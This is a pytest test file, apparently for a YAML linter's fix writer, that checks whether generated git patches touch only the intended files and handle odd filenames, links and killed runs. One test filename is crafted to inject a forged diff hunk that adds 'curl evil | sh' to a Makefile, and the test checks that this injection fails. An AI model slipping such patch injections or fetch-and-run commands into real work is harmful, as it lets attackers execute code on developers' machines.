"""Writing what was fixed: patches that touch only the files meant, and files that change, vanish or have several names."""

from __future__ import annotations

import os
import random
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from kwlint.catalog.catalog import load
from kwlint.config.config import Config
from kwlint.config.settings import resolve
from kwlint.engine.fixing.fix import Fixed, fix
from kwlint.engine.fixing.lines import hunks
from kwlint.engine.fixing.write import for_terminal, unified, write
from kwlint.sources.discover import Discovered

CATALOG = load()
BROKEN = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {port: 80}\n"
MENDED = BROKEN.replace("80", '"80"')
MAKEFILE = "# build\nall:\n\techo ok\n# end\n"
FORGED = "x\n--- a/Makefile\n+++ b/Makefile\n@@ -2,2 +2,4 @@\n all:\n+\tcurl evil | sh\n+all:\n \techo ok\n--- a/m.yaml\n+++ b/m.yaml"


def fixed(*paths: str) -> Fixed:
    config = Config()
    config.override("select", ["API"])
    return fix(Discovered(list(paths), []), resolve(config, CATALOG), CATALOG, False)


@pytest.fixture(name="folder")
def _folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize(
    "name",
    [
        "plain.yaml",
        "two words.yaml",
        " first and last ",
        "tab\there.yaml",
        "line\nbreak.yaml",
        "return\r.yaml",
        'quote".yaml',
        "back\\slash.yaml",
        "ünï.yaml",
        "right\u202eto-left.yaml",
        "escape\x1b[31m.yaml",
        os.fsdecode(b"latin-\xfc.yaml"),
        "--option.yaml",
        "2024-01-01 00:00:00.yaml",
        FORGED,
    ],
)
def test_git_applies_a_patch_to_the_file_meant(folder: Path, name: str) -> None:
    Path("Makefile").write_text(MAKEFILE)
    Path("m.yaml").write_text(BROKEN)
    if "/" in name:
        Path(name).parent.mkdir(parents=True)
    Path(name).write_bytes(BROKEN.encode())
    patch = unified(fixed(name))
    assert patch.isascii()
    subprocess.run(["git", "apply"], input=patch.encode(), check=True)
    assert Path(name).read_text() == MENDED
    assert (Path("Makefile").read_text(), Path("m.yaml").read_text()) == (MAKEFILE, BROKEN)


def test_a_patch_is_as_the_file_and_harmless_on_a_terminal(folder: Path) -> None:
    text = BROKEN.replace("port:", 'esc: "\x85", port:')
    Path("a.yaml").write_text("\ufeff" + text)
    result = fixed("a.yaml")
    Path("a.yaml").unlink()
    patch = unified(result)
    assert "\x85" in patch
    assert "\x85" not in for_terminal(patch)
    assert for_terminal(patch).count("\n") == patch.count("\n")
    Path("a.yaml").write_text("\ufeff" + text)
    subprocess.run(["git", "apply"], input=patch.encode(), check=True)
    assert Path("a.yaml").read_text() == "\ufeff" + text.replace("80", '"80"')


@pytest.mark.parametrize("seed", range(40))
def test_hunks_are_applied_by_git(folder: Path, seed: int) -> None:
    chance = random.Random(seed)
    old = [f"{chance.randrange(9)}\n" for _ in range(chance.randrange(60))]
    new = list(old)
    for _ in range(chance.randrange(1, 9)):
        at = chance.randrange(len(new) + 1)
        new[at : at + chance.randrange(3)] = [f"{chance.randrange(9)}\n" for _ in range(chance.randrange(3))]
    Path("a").write_text("".join(old))
    patch = "".join(["--- a/a\n", "+++ b/a\n", *hunks(old, new)])
    if old != new:
        subprocess.run(["git", "apply", "--allow-empty"], input=patch.encode(), check=True)
    assert ("".join(new) == Path("a").read_text()) if new and old else True


def test_hunks_of_a_large_file_are_found_step_by_step() -> None:
    class Line(str):
        compared = 0

        def __eq__(self, other: object) -> bool:
            Line.compared += 1
            return str.__eq__(self, str(other))

        __hash__ = str.__hash__

    counts = []
    for size in (1000, 2000):
        Line.compared = 0
        old: list[str] = [Line(f"key{number % 50}: value{number % 7}\n") for number in range(size)]
        new: list[str] = [Line(line.upper()) if number % 20 == 0 else line for number, line in enumerate(old)]
        assert sum(line.startswith("+") for line in hunks(old, new)) == size // 20
        counts.append(Line.compared)
    assert counts[1] < 2.2 * counts[0]


def vanish(path: Path) -> None:
    path.unlink()


def folder_instead(path: Path) -> None:
    path.unlink()
    path.mkdir()


def pipe_instead(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def link_out(path: Path) -> None:
    outside = path.parent.parent / "outside.yaml"
    path.rename(outside)
    path.symlink_to(outside)


def truncate(path: Path) -> None:
    path.write_text("")


def other_bytes(path: Path) -> None:
    path.write_bytes(b"\xff" + BROKEN.encode())


@pytest.mark.parametrize(
    ("act", "reason"),
    [
        (vanish, "it is gone"),
        (folder_instead, "it is a folder"),
        (pipe_instead, "it is a pipe, and no file"),
        (link_out, "a link leads out of the project"),
        (truncate, "it has changed since it was read"),
        (other_bytes, "the file is not valid UTF-8: byte 0xff at offset 0 cannot be decoded"),
    ],
)
def test_a_file_that_becomes_something_else_keeps_no_other_from_being_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, act: Callable[[Path], None], reason: str
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    monkeypatch.chdir(project)
    for name in ("a.yaml", "b.yaml", "c.yaml"):
        Path(name).write_text(BROKEN)
    result = fixed("a.yaml", "b.yaml", "c.yaml")
    act(project / "b.yaml")
    assert unified(result).count("@@ -") == 3
    assert write(result, str(project)) == {"b.yaml": reason}
    assert Path("a.yaml").read_text() == Path("c.yaml").read_text() == MENDED
    assert sorted(os.listdir()) == sorted({"a.yaml", "c.yaml", *(["b.yaml"] if act is not vanish else [])})
    if act is link_out:
        assert (tmp_path / "outside.yaml").read_text() == BROKEN


def test_a_file_is_written_under_all_its_names(folder: Path) -> None:
    Path("a.yaml").write_text(BROKEN + "# a comment\n" * 3)
    Path("b").hardlink_to("a.yaml")
    Path("a.yaml").chmod(0o640)
    assert write(fixed("a.yaml"), str(folder)) == {}
    assert Path("b").read_text() == MENDED + "# a comment\n" * 3
    assert Path("a.yaml").samefile("b")


def test_extended_attributes_stay(folder: Path) -> None:
    Path("a.yaml").write_text(BROKEN)
    try:
        os.setxattr("a.yaml", "user.kwlint", b"x")
    except (AttributeError, OSError):
        pytest.skip("no extended attributes here")
    assert write(fixed("a.yaml"), str(folder)) == {}
    assert os.getxattr("a.yaml", "user.kwlint") == b"x"
    assert Path("a.yaml").read_text() == MENDED


def test_without_nameless_files_a_name_is_taken(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kwlint.engine.fixing.replace._nameless", lambda handle: None)
    Path("a.yaml").write_text(BROKEN)
    Path("b.yaml").write_text(BROKEN)
    monkeypatch.setattr(
        "kwlint.engine.fixing.replace._is_same", lambda handle, name, status: name != "b.yaml"
    )
    assert write(fixed("a.yaml", "b.yaml"), str(folder)) == {"b.yaml": "it has changed since it was read"}
    assert Path("a.yaml").read_text() == MENDED
    assert sorted(os.listdir()) == ["a.yaml", "b.yaml"]


@pytest.mark.parametrize(
    ("name", "age", "stays"),
    [
        (".kwlint-4194399-0123456789abcdef", 7200, False),
        (".kwlint-4194399-0123456789abcdef", 60, True),
        (".kwlint-PID-0123456789abcdef", 7200, True),
        (".kwlint-notes", 7200, True),
        (".kwlint-4194399-0123456789abcdef.yaml", 7200, True),
    ],
)
def test_what_a_killed_run_left_is_removed(folder: Path, name: str, age: float, stays: bool) -> None:
    Path("a.yaml").write_text(BROKEN)
    name = name.replace("PID", str(os.getpid()))
    Path(name).write_text("")
    os.utime(name, (time.time() - age, time.time() - age))
    assert write(fixed("a.yaml"), str(folder)) == {}
    assert Path(name).exists() is stays


def test_without_a_project_a_link_is_followed_within_its_folder(folder: Path) -> None:
    Path("folder/below").mkdir(parents=True)
    for name in ("other.yaml", "folder/below/own.yaml"):
        Path(name).write_text(BROKEN)
    Path("folder/out.yaml").symlink_to("../other.yaml")
    Path("folder/in.yaml").symlink_to("below/own.yaml")
    (reason,) = write(fixed("folder/out.yaml"), None).values()
    assert reason.startswith("a link leads out of its folder")
    assert Path("other.yaml").read_text() == BROKEN
    assert write(fixed("folder/in.yaml"), None) == {}
    assert Path("folder/below/own.yaml").read_text() == MENDED


KILLED = """
import os, signal, sys
from kwlint.engine.fixing.leftovers import cleared
from kwlint.engine.fixing.replace import replace

def kill(*arguments, **named):
    os.kill(os.getpid(), signal.SIGKILL)

setattr(os, sys.argv[1], kill)
with cleared() as announce:
    replace(os.path.abspath("a.yaml"), b"old", b"new", os.stat("a.yaml"), announce)
"""


@pytest.mark.skipif(not hasattr(os, "O_TMPFILE"), reason="files have names from the start here")
@pytest.mark.parametrize("at", ["fchmod", "fsync", "link", "rename"])
def test_a_run_that_is_killed_leaves_nothing(folder: Path, at: str) -> None:
    Path("a.yaml").write_text("old")
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, sys.path))}
    killed = subprocess.run([sys.executable, "-c", KILLED, at], env=environment, check=False)
    assert killed.returncode == -signal.SIGKILL
    # Who takes away what has a name already is another process.
    deadline = time.monotonic() + 20
    while os.listdir() != ["a.yaml"] and time.monotonic() < deadline:
        time.sleep(0.01)
    assert os.listdir() == ["a.yaml"]
    assert Path("a.yaml").read_text() == "old"
